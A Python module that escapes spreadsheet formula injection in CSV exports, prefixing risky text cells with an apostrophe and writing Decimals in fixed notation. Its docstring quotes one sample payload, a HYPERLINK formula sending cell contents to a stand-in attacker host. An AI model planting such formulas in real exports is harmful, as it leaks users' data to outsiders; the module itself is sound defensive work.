"""CSV that a spreadsheet opens as data, never as formulas: every CSV export goes through here.

A cell of text that starts with `=`, `+`, `-`, `@` (or their full-width forms), a tab or a
carriage return would be read by Excel, LibreOffice or Google Sheets as a formula, e.g. a
model name `=HYPERLINK("https://evil.example/?"&A1,"click")`. Such text is written with a
leading `'` (OWASP's advice), which spreadsheets show as text. Numbers (int, Decimal, float)
are written as they are: a negative amount stays a number. A Decimal is written in fixed
notation ("0.0000000000", never "0E-10", which a spreadsheet reads as text or zero).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def escape_cell(value: Any) -> Any:
    if isinstance(value, Decimal):
        return format(value, "f")
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class SafeWriter:
    """`csv.writer` whose rows have their text cells escaped."""

    def __init__(self, out, **fmt: Any) -> None:
        self._writer = csv.writer(out, **fmt)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([escape_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out, **fmt: Any) -> SafeWriter:
    return SafeWriter(out, **fmt)
